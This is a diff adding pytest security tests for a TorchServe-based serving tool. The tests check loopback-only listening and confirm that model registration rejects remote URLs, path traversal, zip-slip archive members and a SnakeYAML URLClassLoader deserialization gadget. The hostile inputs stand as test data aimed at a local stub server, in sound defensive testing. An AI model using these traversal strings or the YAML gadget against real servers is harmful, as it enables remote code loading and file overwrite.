@@ -1,10 +1,12 @@
 """`marloft serve`: real TorchServe and Envoy, from deployment.yaml to answers and records."""
 
 import concurrent.futures
+import json
 import socket
-from collections.abc import Iterator
+import zipfile
+from collections.abc import Iterable, Iterator
 from pathlib import Path
-from typing import Any
+from typing import Any, Self
 
 import httpx2
 import psutil
@@ -22,6 +24,60 @@ default_model: ranker
 models:
   ranker: {versions: {"1.0": {max_batch_delay_ms: 50}, "1.1": {}}, default: "1.0"}
 """
+
+
+class Elsewhere:
+    """A server that nobody should ask; it counts who does."""
+
+    def __enter__(self) -> Self:
+        self._server = socket.create_server(("127.0.0.1", 0))
+        self._server.settimeout(0.2)
+        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}"
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._server.close()
+
+    @property
+    def connections(self) -> int:
+        """How many connections came since the last look."""
+        count = 0
+        while True:
+            try:
+                self._server.accept()[0].close()
+            except TimeoutError:
+                return count
+            count += 1
+
+
+def registered(serving: Serving, url: str) -> httpx2.Response:
+    """Ask TorchServe's management API for an archive, past marloft and the gateway."""
+    api = f"http://127.0.0.1:{serving.ports.management}/models"
+    return httpx2.post(api, params={"url": url, "initial_workers": 0}, timeout=30)
+
+
+def unregistered(serving: Serving, model: str) -> None:
+    httpx2.delete(f"http://127.0.0.1:{serving.ports.management}/models/{model}", timeout=30)
+
+
+def archive_like(project: Path, name: str, members: dict[str, str]) -> str:
+    """Put an archive of 1.0's members and some more into the store, as no `pack` would."""
+    store = project / "model_store"
+    with zipfile.ZipFile(store / "ranker-1.0.mar") as source:
+        content = {each: source.read(each) for each in source.namelist()}
+    manifest = json.loads(content["MAR-INF/MANIFEST.json"])
+    manifest["model"]["modelName"] = Path(name).stem
+    manifest["model"].pop("modelFile", None)
+    if "model-config.yaml" in members:
+        manifest["model"]["configFile"] = "model-config.yaml"
+    content["MAR-INF/MANIFEST.json"] = json.dumps(manifest).encode()
+    content |= {each: text.encode() for each, text in members.items()}
+    with zipfile.ZipFile(store / name, "w") as target:
+        for member, data in content.items():
+            target.writestr(member, data)
+    return name
+
+
 TWO = [{"item_id": 50}, {"item_id": 3}]
 
 
@@ -160,6 +216,84 @@ def test_one_bad_row_fails_its_own_request_alone(serving: Serving, project: Path
             expected = factories.score(number, [3, 50 - number])
             assert answer.json()["scores"] == pytest.approx(expected, abs=1e-5)
     assert sum(r.request_id.startswith("b-") for r in records(project)) == 12
+
+
+def listening(processes: Iterable[psutil.Process]) -> set[tuple[str, int]]:
+    """Return the addresses at which processes listen."""
+    return {
+        (each.laddr.ip, each.laddr.port)
+        for process in processes
+        for each in process.net_connections("inet")
+        if each.status == psutil.CONN_LISTEN
+    }
+
+
+def test_everything_listens_on_loopback_alone(serving: Serving) -> None:
+    serve = psutil.Process(serving.process.pid)
+    found = listening([serve, *serve.children(recursive=True)])
+    assert set(serving.ports.purposes().values()) <= {port for _, port in found}
+    assert {host.removeprefix("::ffff:") for host, _ in found} == {"127.0.0.1"}
+
+
+def test_what_listens_to_everybody_is_seen() -> None:
+    with socket.create_server(("0.0.0.0", 0)) as server:
+        assert server.getsockname() in listening([psutil.Process()])
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    with Elsewhere() as server:
+        yield server
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "{http}/ranker-1.0.mar",
+        "{http}/../ranker-1.0.mar",
+        "file://{store}/ranker-1.0.mar",
+        "file:///nowhere/../{store}/ranker-1.0.mar",
+        "{store}/../model_store/ranker-1.0.mar",
+        "../model_store/ranker-1.0.mar",
+        "..%2fmodel_store%2franker-1.0.mar",
+        "x/../../model_store/ranker-1.0.mar",
+    ],
+)
+def test_torchserve_takes_no_archive_but_the_stores(
+    serving: Serving, project: Path, elsewhere: Elsewhere, url: str
+) -> None:
+    named = url.format(http=elsewhere.url, store=project / "model_store")
+    assert 400 <= registered(serving, named).status_code < 500
+    assert elsewhere.connections == 0
+
+
+def test_torchserve_registers_from_the_store_by_name(serving: Serving, project: Path) -> None:
+    """Were every registration refused, the refusals above would say nothing."""
+    name = archive_like(project, "plain.mar", {})
+    assert registered(serving, name).status_code == 200
+    unregistered(serving, "plain")
+
+
+def test_yaml_in_an_archive_makes_no_java_object(
+    serving: Serving, project: Path, elsewhere: Elsewhere
+) -> None:
+    gadget = (
+        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
+        f'[[!!java.net.URL ["{elsewhere.url}/"]]]]\n'
+    )
+    name = archive_like(project, "gadget.mar", {"model-config.yaml": gadget})
+    registered(serving, name)
+    unregistered(serving, "gadget")
+    assert elsewhere.connections == 0
+    said = (project / "var" / "log" / "torchserve" / "console.log").read_text()
+    assert "Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager" in said
+
+
+def test_archive_unpacks_nothing_outside_its_folder(serving: Serving, project: Path) -> None:
+    name = archive_like(project, "slip.mar", {"../../slipped.txt": "x"})
+    assert registered(serving, name).status_code >= 400
+    folder = Path(json.loads((project / "var/run/processes/torchserve.json").read_text())["folder"])
+    assert [*folder.parent.glob("slipped.txt"), *folder.rglob("slipped.txt")] == []
 
 
 def test_second_serve_on_the_same_state_is_refused(serving: Serving, project: Path) -> None:
